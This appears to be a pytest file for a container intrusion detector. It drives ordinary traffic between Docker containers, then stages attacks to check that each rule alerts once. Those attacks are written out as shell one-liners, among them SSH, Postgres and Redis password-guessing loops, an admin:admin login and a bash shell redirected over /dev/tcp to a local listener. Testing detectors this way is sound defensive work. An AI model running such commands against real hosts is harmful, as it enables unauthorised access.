# SPDX-License-Identifier: Apache-2.0
"""Ordinary work of a host (tests/tools/ordinary.py) gives at most one alert a container; peers on a bridge are named; then real attacks between
its containers, each told.  The long form of the first is tests/bench/ordinary."""
import os
import pathlib
import shutil
import sys
import tempfile
import time

import pytest
import yaml

from conftest import ROOT
from test_pack import LEARNING, PACK
from test_watch import Watch

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "tools"))
import ordinary  # noqa: E402

SECONDS = 100
QUIET_SSH = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -q"


@pytest.fixture(scope="module")
def work(binary, tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("watching needs root")
    for program in ("dockerd", "iptables", "unshare"):
        if not shutil.which(program):
            pytest.skip(f"{program} is not installed")
    try:
        ordinary.root_tar()
    except RuntimeError as e:
        pytest.skip(f"no root file system: {e}")
    folder = pathlib.Path(tempfile.mkdtemp(prefix="hf-work-"))  # short: a socket's path has 107 bytes at most
    folder.chmod(0o755)
    host, watch = ordinary.Ordinary(folder), None
    try:
        try:
            host.start()
        except RuntimeError as e:
            pytest.skip(f"no dockerd with bridges in a network namespace: {e}")
        path = tmp_path_factory.mktemp("ordinary")
        watch = Watch(binary, path, "--json", "--budget", "0", "--type", "status,connect", "--rules", PACK)
        host.services()
        host.work(SECONDS, pace=0.6)
        time.sleep(1)
        watch.end()
        yield host, path
    finally:
        host.stop()
        if watch:
            watch.stop()
        shutil.rmtree(folder, ignore_errors=True)


def test_all_of_it_was_done(work):
    host = work[0]
    assert host.failed == []
    assert {name for name, _ in host.JOBS if name != "again"} <= set(host.done)


def test_at_most_one_alert_a_container(work):
    host, path = work
    told = {name: [a["rule"] for a in alerts] for name, alerts in host.alerts(path / "out").items()}
    assert {name: rules for name, rules in told.items() if len(rules) > 1} == {}
    assert told.get("app") == ["Shell opened by hand"]  # which a person did


def test_peers_on_a_bridge_are_named(work):
    host, path = work
    pairs = set()
    for e in Watch.read(path):
        c = e["connect"] if e["type"] == "connect" and (e.get("container") or {}).get("image") == host.image else None
        if c and c.get("peer_container"):
            pairs.add((e["container"]["name"], c["peer_container"]["name"], c["peer_port"], c.get("peer_name")))
    for one in (("client", "web", 80, "web"), ("web", "app", 8000, "app"), ("app", "cache", 6379, "cache"), ("app", "db", 5432, "db"), ("client", "login", 22, "login")):
        assert one in pairs, sorted(pairs, key=str)


ATTACKS = {  # rule -> (container that tells of it, in which container it is done: None a new one, what)
    "SSH logins fail again and again": ("login", None, f"ssh-keygen -q -t ed25519 -N '' -f /tmp/k; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do ssh {QUIET_SSH} -o IdentitiesOnly=yes -i /tmp/k root@login true; done; true"),
    "Database logins fail again and again": ("db", None, "for i in $(seq 30); do PGPASSWORD=no$i psql -h db -U app shop -c 'select 1' >/dev/null 2>&1; done; true"),
    "Logins refused again and again": ("guest2", None, "for i in $(seq 20); do redis-cli -h cache -a no$i ping >/dev/null 2>&1; done; true"),
    "Default credentials used": ("guest3", None, "wget -qO /dev/null --auth-no-challenge --user=admin --password=admin http://web/"),
    "Container reaches for an admin port": ("web", "web", "sleep 8; bash -c 'exec 3<>/dev/tcp/db/5432'"),
    "Shell on a network connection": ("guest5", None, "python3 -c \"import socket,os,time;s=socket.socket();s.bind(('',4444));s.listen();c=s.accept()[0];c.recv(1);time.sleep(1)\" & sleep 1; bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; exec bash -c true 0<&3 1>&3 2>&3'"),
}


@pytest.fixture(scope="module")
def attacked(work, binary, tmp_path_factory):
    host, _ = work
    path = tmp_path_factory.mktemp("attacks")
    (path / "short.yaml").write_text(yaml.safe_dump([{"rule": r, "window": "4s", "override": {"window": "replace"}} for r in LEARNING]))
    watch = Watch(binary, path, "--json", "--budget", "0", "--type", "status", "--rules", PACK, "--rules", path / "short.yaml")
    try:
        for i, (_, where, what) in enumerate(ATTACKS.values()):
            if where:
                host.docker("exec", where, "bash", "-c", what)
            else:
                host.docker("run", "--rm", "--name", f"guest{i}", "--network", "shop", host.image, "bash", "-c", what)
        time.sleep(1.5)
        watch.end()
    finally:
        watch.stop()
    return host.alerts(path / "out")


@pytest.mark.parametrize("rule", ATTACKS)
def test_attack_between_containers(attacked, rule):
    where = ATTACKS[rule][0]
    found = [a for a in attacked.get(where, []) if a["rule"] == rule]
    assert len(found) == 1, {name: [a["rule"] for a in alerts] for name, alerts in attacked.items()}
    if rule == "Container reaches for an admin port":
        assert "(db)" in found[0]["summary"]
    if rule == "Default credentials used":
        assert "web" in found[0]["summary"] and "admin" not in found[0]["summary"]
